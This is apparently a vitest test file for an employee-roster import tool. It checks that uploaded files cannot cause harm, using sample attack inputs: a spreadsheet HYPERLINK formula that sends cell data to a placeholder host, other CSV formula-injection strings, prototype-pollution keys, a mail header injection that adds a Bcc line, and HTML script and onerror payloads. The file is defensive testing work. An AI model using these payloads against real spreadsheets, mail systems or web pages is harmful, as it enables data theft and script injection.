import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { rollcall } from '../cli/run.ts';
import { openTestApp, startDaemon, type TestApp, untilStatus } from '../fixtures/app.ts';
import { eventually } from '../fixtures/daemon.ts';
import { csvOf, type RosterRow, syntheticEmployee, syntheticEmployees, xmlOf } from '../fixtures/roster.ts';
import { onDatabase } from '../services/databases.ts';

const formulas = [
  '=HYPERLINK("http://127.0.0.1:1/?a="&A1,"more")',
  '   =1+1',
  '+47 cmd',
  '-2+3',
  '@SUM(1)',
  '\u00a0=1+1',
  '\uff1d1+1',
  'x;=1+1',
];

onDatabase('sqlite', 'what stands in a roster', (databases) => {
  const open = async (feed = {}) => openTestApp({ database: await databases.createConfig(), feed });

  it('comes to the same with a byte order mark in front, in any format', async () => {
    const test = await open();
    const people = syntheticEmployees(10);
    const [csv, xml, json] = [csvOf(people), xmlOf(people), JSON.stringify(people)];
    const wide = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
    expect(await test.drop('first.csv', csv)).toMatchObject({ status: 'processed', plan: { created: 10 } });
    const before = await test.app.employees({ feed: test.feed });

    for (const [name, content] of [
      ['utf-8.csv', `\uFEFF${csv}`],
      ['utf-16.csv', wide(csv)],
      ['utf-8.xml', `\uFEFF${xml}`],
      ['utf-16.xml', wide(xml.replace('UTF-8', 'UTF-16'))],
      ['utf-8.json', `\uFEFF${json}`],
    ] as const) {
      const report = await test.drop(name, content);
      expect(report, name).toMatchObject({ status: 'processed', rows: 10, plan: { unchanged: 10 }, issues: [] });
    }
    expect(await test.app.employees({ feed: test.feed })).toEqual(before);
  });

  it('may be called like a part of JavaScript objects, and is a name like any other', async () => {
    const fields = { employeeNo: { from: 'nr' }, surname: { from: 'constructor' } };
    const test = await open({ layout: 'custom', mapping: { fields, keepUnmapped: true } });
    const asCsv = 'nr,constructor,__proto__,toString\n1,Berg,polluted,x\n';
    const asJson = '[{"nr":"2","constructor":"Dahl","__proto__":{"polluted":true},"hasOwnProperty":"x"}]';

    expect(await test.drop('a.csv', asCsv)).toMatchObject({ status: 'processed', plan: { created: 1 } });
    expect(await test.drop('b.json', asJson)).toMatchObject({ status: 'processed', plan: { created: 1 } });

    const rows = await test.sql<{ surname: string; attributes: string }>(
      'SELECT surname, attributes FROM employees ORDER BY employee_no',
    );
    expect(rows.map(({ surname }) => surname)).toEqual(['Berg', 'Dahl']);
    expect(rows[0]?.attributes).toContain('"__proto__":"polluted"');
    expect(rows[1]?.attributes).toContain('"__proto__":{"polluted":true}');
    const [kept] = (await test.app.employees({ employeeNo: '2' })) as unknown as [{ attributes: object }];
    expect(Object.keys(kept.attributes)).toEqual(expect.arrayContaining(['__proto__', 'hasOwnProperty']));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('is no formula in errors.csv, in the list of changes, nor in the attachment of a mail', async () => {
    const test = await open();
    const rowsWith = (surname: (i: number) => string, more: Partial<RosterRow> = {}) =>
      formulas.map((formula, i) => syntheticEmployee(i, { employeeNo: formula, surname: surname(i), ...more }));
    await test.drop('first.csv', csvOf(rowsWith((i) => formulas[i] ?? '')));
    const changed = await test.drop('changed.csv', csvOf(rowsWith((i) => formulas.at(i - 1) ?? '')));
    const stop = await startDaemon(test);
    await test.write(
      `data/inbox/${test.feed}/wrong.csv`,
      csvOf(rowsWith(() => 'Berg', { ssn: '=1+1', payType: '=1' })),
    );
    const rejected = await untilStatus(test, 'wrong.csv', 'rejected');
    const mail = await eventually('mail', async () =>
      (await test.mails()).find(({ subject }) => subject?.includes('REJECTED')),
    );
    await stop();

    const config = ['--config', join(test.dir, 'config', 'rollcall.yaml')];
    const [changes, errors] = [join(test.dir, 'changes.csv'), join(test.dir, 'errors.csv')];
    expect((await rollcall(['file', String(changed.fileId), '--changes', changes, ...config])).code).toBe(0);
    expect((await rollcall(['file', String(rejected), '--errors', errors, ...config])).code).toBe(0);
    const lists = {
      changes: await readFile(changes, 'utf8'),
      errors: await readFile(errors, 'utf8'),
      beside: await readFile(join(test.dir, 'data/inbox', test.feed, 'rejected', 'wrong.csv.errors.csv'), 'utf8'),
      attached: mail.attachments[0]?.content.toString() ?? '',
    };

    for (const [name, list] of Object.entries(lists)) {
      for (const formula of formulas.slice(0, -1)) expect(cellsOf(list), name).toContain(`'${formula.trim()}`);
      expect(cellsOf(list).filter(isFormula), name).toEqual([]);
      // Some spreadsheets split at semicolons, whatever stands in quotation marks.
      expect(list.split(/[;\r\n]/).filter(isFormula), name).toEqual([]);
    }
  });

  it('makes no header and no line of a mail, whatever line breaks are in it', async () => {
    const injected = 'Ola\r\nBcc: thief@example.org\r\n\r\nNothing to do.';
    const test = await open();
    const wrong = syntheticEmployee(1, { employeeNo: injected, surname: injected, payType: injected });
    await test.drop('a\r\nBcc: thief@example.org\r\n\r\n.csv', csvOf([syntheticEmployee(0), wrong]));

    const [raw = ''] = await rawMails(test);
    const [mail] = await test.mails();
    const [head = ''] = raw.split('\r\n\r\n', 1);
    expect(head).toMatch(/^Subject: /m);
    expect(raw).not.toMatch(/^ ?Bcc:/im);
    expect(mail?.bcc).toBeUndefined();
    expect(mail?.to).toMatchObject({ value: [{ address: 'tech@example.org' }] });
    expect(mail?.text).toContain('thief@example.org');
    expect(mail?.text).not.toMatch(/^(Bcc:|Nothing to do)/m);
    for (const { filename, content } of mail?.attachments ?? []) {
      expect(filename).toBe('errors.csv');
      expect(
        content
          .toString()
          .split(/[\r\n]+/)
          .filter((line) => line.startsWith('Bcc:')),
      ).toEqual([]);
    }
  });

  it('is escaped in the HTML of a mail', async () => {
    const html = '<img src=x onerror="alert(1)">&amp;<script>alert(2)</script>';
    const test = await open();
    const wrong = syntheticEmployee(1, { employeeNo: html, surname: html, payType: html });
    await test.drop(`${html.replaceAll('/', '')}.csv`, csvOf([syntheticEmployee(0), wrong]));

    const [mail] = await test.mails();
    expect(mail?.html).not.toMatch(/<(img|script)/i);
    expect(mail?.html).toContain('&lt;img src=x onerror=');
    expect(mail?.html).toContain('&amp;amp;');
    expect(mail?.text).toMatch(/<img src=x\s+onerror=/);
  });

  it('keeps leading zeros and numbers of twenty digits, in every format', async () => {
    const test = await open({ layout: 'hr-data-sync' });
    const [zeros, long] = ['0000417', '12345678901234567890'];
    const person = (employee_id: string, forename: string) => ({
      employee_id,
      forename,
      surname: 'Berg',
      employee_type: 'employee',
      department: '007',
      start_date: '2012-12-13',
      country: 'NO',
      email: 'kari@example.org',
    });
    const people = (forename: string) => [person(zeros, forename), person(long, forename)];
    const element = (record: object) => Object.entries(record).map(([name, value]) => `<${name}>${value}</${name}>`);
    const asCsv = (rows: object[]) => [Object.keys(rows[0] ?? {}), ...rows.map(Object.values)].join('\n');
    const asXml = (rows: object[]) =>
      `<employees>${rows.map((row) => `<employee>${element(row).join('')}</employee>`).join('')}</employees>`;
    // As a number, as some programs write what has only digits.
    const asJson = (rows: object[]) => JSON.stringify(rows).replace(`"${long}"`, long);

    const reports = [
      await test.drop('a.csv', asCsv(people('Kari'))),
      await test.drop('b.xml', asXml(people('Karin'))),
      await test.drop('c.json', asJson(people('Karen'))),
    ];

    expect(reports.map(({ plan }) => [plan.created, plan.updated])).toEqual([
      [2, 0],
      [0, 2],
      [0, 2],
    ]);
    expect(await test.sql('SELECT employee_no, department FROM employees ORDER BY employee_no')).toEqual([
      { employee_no: zeros, department: '007' },
      { employee_no: long, department: '007' },
    ]);
    const config = ['--config', join(test.dir, 'config', 'rollcall.yaml')];
    const list = join(test.dir, 'changes.csv');
    await rollcall(['file', String(reports[2]?.fileId), '--changes', list, ...config]);
    expect(cellsOf(await readFile(list, 'utf8'))).toEqual(expect.arrayContaining([zeros, long]));
    const { stdout } = await rollcall(['employee', '--employee-no', long, '--json', ...config]);
    expect(stdout).toContain(`"${long}"`);
  });
});

function cellsOf(csv: string): string[] {
  return (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
}

/** What a spreadsheet takes for one: also after blanks, and in the wide letters of East Asia. */
function isFormula(cell: string): boolean {
  return /^["\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
}

async function rawMails(test: TestApp): Promise<string[]> {
  const directory = join(test.dir, 'data', 'mail');
  const names = (await readdir(directory)).sort();
  return Promise.all(names.map((name) => readFile(join(directory, name), 'utf8')));
}
